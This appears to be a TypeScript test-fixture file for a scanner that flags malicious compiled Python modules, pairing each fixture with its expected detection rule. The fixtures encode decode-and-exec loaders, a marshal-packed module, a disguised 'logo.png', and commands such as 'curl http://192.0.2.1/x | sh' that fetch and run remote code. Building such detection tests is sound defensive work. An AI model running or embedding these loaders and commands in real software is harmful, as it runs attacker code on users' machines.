import { compiledModule, moduleCode } from '../builders/marshal.ts';
import type { AreaHonest, AreaTechnique } from './area.ts';

/** `[module, function, text]` of one call at the top of a module. */
type Calls = Parameters<typeof moduleCode>[0];

function technique(id: string, title: string, calls: Calls, rule: string): AreaTechnique {
  return {
    id: `bytecode-${id}`,
    title,
    build: () => ({ 'layers.pyc': compiledModule(moduleCode(calls)) }),
    expect: [`compiled-module/${rule}`],
  };
}

export const BYTECODE_TECHNIQUES: readonly AreaTechnique[] = [
  technique(
    'unpacked',
    'a compiled module that decodes code and runs it',
    [
      ['base64', 'b64decode', 'cHJpbnQoMSk='],
      ['', 'exec', 'x'],
    ],
    'unpacked-code',
  ),
  technique(
    'fetched',
    'a compiled module that fetches code and runs it',
    [
      ['requests', 'get', 'http://192.0.2.1/x'],
      ['', 'eval', 'x'],
    ],
    'unpacked-code',
  ),
  technique(
    'marshalled',
    'a compiled module with another one packed inside',
    [
      ['zlib', 'decompress', 'x'],
      ['marshal', 'loads', 'x'],
    ],
    'unpacked-code',
  ),
  technique(
    'command',
    'a compiled module that fetches a program and starts it',
    [['os', 'system', 'curl http://192.0.2.1/x | sh']],
    'remote-command',
  ),
  {
    id: 'bytecode-renamed',
    title: 'a compiled module with the name of a picture',
    build: () => ({
      'logo.png': compiledModule(moduleCode([['os', 'system', 'wget http://192.0.2.1/x']])),
    }),
    expect: ['compiled-module/remote-command', 'file-type/lying-extension'],
  },
  {
    id: 'bytecode-trailing',
    title: 'a compiled module with something behind its code',
    build: () => ({
      'layers.pyc': Buffer.concat([compiledModule(moduleCode([])), Buffer.alloc(64, 7)]),
    }),
    expect: ['unattributed-bytes/hidden-bytes'],
  },
];

export const BYTECODE_HONEST: readonly AreaHonest[] = [
  {
    id: 'bytecode-ordinary',
    title: 'a compiled module that makes its types',
    build: () => ({
      'layers.pyc': compiledModule(
        moduleCode([
          ['collections', 'namedtuple', 'Point'],
          ['logging', 'getLogger', 'layers'],
        ]),
      ),
    }),
  },
];
